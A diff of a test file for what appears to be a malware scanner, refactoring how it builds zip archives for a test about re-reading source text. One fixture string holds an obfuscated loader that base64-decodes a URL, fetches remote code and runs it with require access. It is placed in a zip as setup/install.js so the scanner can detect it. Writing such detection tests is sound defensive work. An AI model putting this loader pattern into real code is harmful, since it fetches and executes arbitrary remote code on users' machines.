@@ -8,11 +8,11 @@ import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'n
 import path from 'node:path';
 import { AnalysisPool } from '../src/analysis/source-pool.js';
 import { analyseFile, passesPrefilter, RETAINED_TEXT, sourceIndex } from '../src/analysis/source-index.js';
-import yazl from 'yazl';
 import { acquireLocal } from '../src/acquire/local.js';
 import { loadSignatures } from '../src/signatures/load.js';
 import { DEFAULT_LIMITS } from '../src/options.js';
 import { FIXTURES, scanFolder, tempDir } from './helpers.js';
+import { zipOf } from './support/archives.js';
 
 const sigs = loadSignatures();
 
@@ -160,14 +160,7 @@ describe('prefilter windows', () => {
 describe('source text past the index memory budget', () => {
   it('is read again from the folder when a rule asks, and entries of nested archives keep theirs', async () => {
     const loader = 'const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => new Function("require", c)(require));\n';
-    const zip = await new Promise<Buffer>((resolve) => {
-      const z = new yazl.ZipFile();
-      z.addBuffer(Buffer.from(loader), 'setup/install.js');
-      const parts: Buffer[] = [];
-      z.outputStream.on('data', (d: Buffer) => parts.push(d));
-      z.outputStream.on('end', () => resolve(Buffer.concat(parts)));
-      z.end();
-    });
+    const zip = await zipOf([{ name: 'setup/install.js', data: loader }]);
     const { dir, cleanup } = tempDir();
     const saved = RETAINED_TEXT.chars;
     try {
